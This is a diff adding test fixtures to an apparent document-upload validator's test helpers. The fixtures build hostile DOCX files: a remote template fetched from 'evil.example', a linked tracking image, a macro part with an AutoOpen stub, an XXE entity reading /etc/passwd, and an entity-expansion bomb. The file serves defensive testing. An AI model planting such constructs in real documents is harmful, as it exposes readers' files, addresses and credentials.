@@ -130,3 +130,100 @@ export function docxLyingBomb(bytes = 50 * 1024 * 1024): Buffer {
 export function plainZip(): Buffer {
   return buildZip([{ name: 'notes.txt', data: Buffer.from('hej') }]);
 }
+
+const RELATIONSHIPS_NS = 'http://schemas.openxmlformats.org/package/2006/relationships';
+const OFFICE_RELS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+
+/** A relationship part with the given `<Relationship …/>` elements. */
+function relationships(...elements: string[]): Buffer {
+  return Buffer.from(
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
+      `<Relationships xmlns="${RELATIONSHIPS_NS}">${elements.join('')}</Relationships>`,
+  );
+}
+
+/**
+ * A DOCX whose settings attach a template on a server (Word fetches it on opening: a remote
+ * template injection, and the reader's address and credentials leak to the server).
+ */
+export function docxWithExternalTemplate(target = 'http://evil.example/template.dotm'): Buffer {
+  return docxWith('Mall', [
+    {
+      name: 'word/settings.xml',
+      data: Buffer.from(
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
+          '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' +
+          `xmlns:r="${OFFICE_RELS}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
+      ),
+    },
+    {
+      name: 'word/_rels/settings.xml.rels',
+      data: relationships(
+        `<Relationship Id="rId1" Type="${OFFICE_RELS}/attachedTemplate" Target="${target}" TargetMode="External"/>`,
+      ),
+    },
+  ]);
+}
+
+/** A DOCX with an image linked from a server rather than held in the file. */
+export function docxWithLinkedImage(): Buffer {
+  return docxWith('Bild', [
+    {
+      name: 'word/_rels/document.xml.rels',
+      data: relationships(
+        `<Relationship Id="rId5" Type="${OFFICE_RELS}/image" Target="https://tracker.example/p.png" TargetMode="External"/>`,
+      ),
+    },
+  ]);
+}
+
+/** A DOCX with an ordinary web link in its text (accepted: the reader follows it or not). */
+export function docxWithHyperlink(): Buffer {
+  return docxWith('Länk', [
+    {
+      name: 'word/_rels/document.xml.rels',
+      data: relationships(
+        `<Relationship Id="rId4" Type="${OFFICE_RELS}/hyperlink" Target="https://www.1177.se/" TargetMode="External"/>`,
+      ),
+    },
+  ]);
+}
+
+/**
+ * A DOCX carrying a macro project: a `vbaProject.bin` part whose bytes are not an OLE2 file (so
+ * no magic-byte check sees an archive), its relationship and its content type.
+ */
+export function docxWithMacroPart(name = 'word/vbaProject.bin'): Buffer {
+  return docxWith('Makro', [
+    { name, data: Buffer.from('Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nEnd Sub\n') },
+    {
+      name: 'word/_rels/document.xml.rels',
+      data: relationships(
+        `<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`,
+      ),
+    },
+  ]);
+}
+
+/** A DOCX whose document part declares a DOCTYPE with an external entity (XXE). */
+export function docxWithDoctype(): Buffer {
+  const document =
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
+    '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' +
+    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
+    '<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>';
+  return docxWith('', [], Buffer.from(document));
+}
+
+/** A DOCX whose content types are preceded by an entity-expansion bomb (billion laughs). */
+export function docxWithEntityBomb(): Buffer {
+  const types =
+    '<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa">' +
+    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>' +
+    CONTENT_TYPES.replace('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', '');
+  return buildZip([
+    { name: '[Content_Types].xml', data: Buffer.from(types) },
+    { name: '_rels/.rels', data: Buffer.from(RELS) },
+    { name: 'word/document.xml', data: Buffer.from(wordDocument('Bomb')) },
+  ]);
+}
